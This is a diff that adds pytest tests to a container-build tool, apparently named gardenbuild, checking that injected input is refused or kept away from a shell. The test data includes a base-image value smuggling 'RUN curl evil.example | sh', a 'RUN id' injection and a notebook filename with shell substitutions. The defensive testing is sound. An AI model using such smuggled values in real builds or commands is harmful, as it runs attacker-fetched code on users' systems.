@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import shutil
 from pathlib import Path
+from typing import Optional
 
 import pytest
 
@@ -94,3 +95,129 @@ def test_the_fingerprint_never_reads_through_a_link(garden, tmp_path):
     first = stamp.fingerprint(garden, {})
     outside.write_text("two")  # were the link followed, the fingerprint would change
     assert stamp.fingerprint(garden, {}) == first
+
+
+# --------------------------------------------------------------------------- injection
+
+
+def set_environment(garden: Path, lines: str) -> None:
+    text = (garden / "Gardenfile.toml").read_text()
+    (garden / "Gardenfile.toml").write_text(text.replace('[environment]\n', f'[environment]\n{lines}\n', 1))
+
+
+def test_a_base_image_that_is_no_reference_is_refused_everywhere_it_can_come_from(garden, run_cli, monkeypatch):
+    set_environment(garden, 'base_image = "python:3.11\\nRUN curl evil.example | sh"')
+    code, _, err = run_cli("render", str(garden))
+    assert code == 2 and "environment.base_image: 'python:3.11\\nRUN curl evil.example | sh' is not an image " \
+                         "reference: it contains whitespace or control characters" in err
+    ok = garden.parent / "ok"
+    shutil.copytree(EXAMPLE, ok, ignore=shutil.ignore_patterns(".gardenbuild"))
+    code, _, err = run_cli("render", str(ok), "--base-image", "x\nRUN id")
+    assert (code, err.splitlines()[0]) == (2, "error: --base-image: 'x\\nRUN id' is not an image reference: it "
+                                              "contains whitespace or control characters")
+    monkeypatch.setenv("GARDENBUILD_BASE_IMAGE", "Bad Name")
+    code, _, err = run_cli("render", str(ok))
+    assert code == 2 and err.startswith("error: GARDENBUILD_BASE_IMAGE: 'Bad Name' is not an image reference")
+
+
+def test_a_notebook_name_with_shell_syntax_is_never_read_by_a_shell(tmp_path, run_cli):
+    garden = tmp_path / "g"
+    shutil.copytree(EXAMPLE, garden, ignore=shutil.ignore_patterns(".gardenbuild", "Gardenfile.lock"))
+    odd = 'model`touch pwned`$(id)".ipynb'
+    (garden / "solubility.ipynb").rename(garden / odd)
+    text = (garden / "Gardenfile.toml").read_text().replace('notebook = "solubility.ipynb"',
+                                                            f"notebook = '{odd}'")
+    (garden / "Gardenfile.toml").write_text(text)
+    code, out, err = run_cli("render", "--stage", "garden", str(garden))
+    assert code == 0, err
+    (run,) = [line for line in out.splitlines() if "gardenbuild.runtime.execute" in line]
+    assert run.startswith("RUN [") and run.endswith("]")  # exec form: JSON, no shell
+    import json
+
+    argv = json.loads(run[4:])
+    assert argv[argv.index("--notebook") + 1] == odd
+
+
+def test_env_values_with_newlines_secret_names_and_reserved_names_are_refused(garden, run_cli):
+    text = (garden / "Gardenfile.toml").read_text()
+    (garden / "Gardenfile.toml").write_text(text.replace(
+        'env = { OMP_NUM_THREADS = "1" }',
+        'env = { OMP_NUM_THREADS = "1", NOTE = "two\\nlines", API_TOKEN = "abc123", PYTHONPATH = "/x" }'))
+    code, _, err = run_cli("check", str(garden))
+    assert code == 2
+    assert "environment.env.NOTE: env values must be one line without control characters" in err
+    assert ("environment.env.API_TOKEN: 'API_TOKEN' looks like a credential, and env values are written into the "
+            "image for anyone to read; declare it as secrets = [\"API_TOKEN\"] in [environment]") in err
+    assert "environment.env.PYTHONPATH: 'PYTHONPATH' cannot be set here: the gardenbuild runtime lives on PYTHONPATH" in err
+    assert "abc123" not in err
+
+
+def test_env_values_are_kept_exactly(garden, run_cli):
+    # The Gardenfile's [environment] table already has env = {...}: replace it.
+    text = (garden / "Gardenfile.toml").read_text().replace('env = { OMP_NUM_THREADS = "1" }',
+                                                            'env = { GREETING = "a  b\\tc" }')
+    (garden / "Gardenfile.toml").write_text(text)
+    code, out, err = run_cli("check", str(garden))
+    assert code == 2 and "GREETING: env values must be one line" in err  # a tab is a control character
+    (garden / "Gardenfile.toml").write_text(text.replace('\\tc"', '"'))
+    code, out, err = run_cli("render", "--stage", "garden", str(garden))
+    assert code == 0 and 'GREETING="a  b"' in out  # two spaces stay two
+
+
+def test_a_secret_may_not_also_be_an_env_value(garden, run_cli):
+    text = (garden / "Gardenfile.toml").read_text().replace('env = { OMP_NUM_THREADS = "1" }',
+                                                            'env = { OMP_NUM_THREADS = "1" }\nsecrets = ["OMP_NUM_THREADS"]')
+    (garden / "Gardenfile.toml").write_text(text)
+    code, _, err = run_cli("check", str(garden))
+    assert code == 2 and "OMP_NUM_THREADS is both a secret and an env value" in err
+
+
+# --------------------------------------------------------------------------- calls that do not fit
+
+
+def test_arguments_are_checked_against_the_hints_naming_the_parameter():
+    from gardenbuild.runtime.signature import argument_mismatch
+
+    def predict(smiles: list[str], n: int = 3, scale: Optional[float] = None, meta: dict[str, float] = {},
+                anything=None, frame: "object" = None):
+        return smiles
+
+    assert argument_mismatch(predict, [], {"smiles": 5}) == "parameter smiles must be a list (list[str]), not 5 (a number)"
+    assert argument_mismatch(predict, [], {"smiles": ["C", 3]}) == "parameter smiles[1] must be a string, not 3 (a number)"
+    assert argument_mismatch(predict, [], {"smiles": [], "n": True}) == "parameter n must be an integer, not true (true/false)"
+    assert argument_mismatch(predict, [], {"smiles": [], "scale": "x"}).startswith("parameter scale must be ")
+    assert argument_mismatch(predict, [], {"smiles": [], "meta": {"a": "b"}}) == (
+        "parameter meta['a'] must be a number, not \"b\" (a string)")
+    assert argument_mismatch(predict, [], {"smiles": ["C"], "n": 1, "scale": 2, "meta": {"a": 1.5},
+                                           "anything": {"x": [1]}, "frame": [[1]]}) is None
+
+
+def test_a_build_that_waits_for_another_says_what_it_waits_for(tmp_path):
+    import threading
+
+    from gardenbuild.engine.store import StepStore
+    from gardenbuild.errors import UserError
+    from gardenbuild.report import RecordingReporter
+
+    store = StepStore(tmp_path)
+    held, release = threading.Event(), threading.Event()
+
+    def other_build():
+        with store.lock("garden-solubility"):
+            held.set()
+            release.wait(10)
+
+    thread = threading.Thread(target=other_build)
+    thread.start()
+    held.wait(10)
+    reporter = RecordingReporter()
+    with pytest.raises(UserError, match="another gardenbuild process has been building 'solubility' for 0.2 s"):
+        with store.lock("garden-solubility", timeout=0.2, reporter=reporter):
+            pass
+    release.set()
+    thread.join()
+    assert reporter.messages("info") == ["waiting for another gardenbuild process that is building 'solubility' "
+                                         "(up to 0.2 s); its result will be reused"]
+    with store.lock("garden-solubility", reporter=reporter):  # free now: no word
+        pass
+    assert len(reporter.messages("info")) == 1
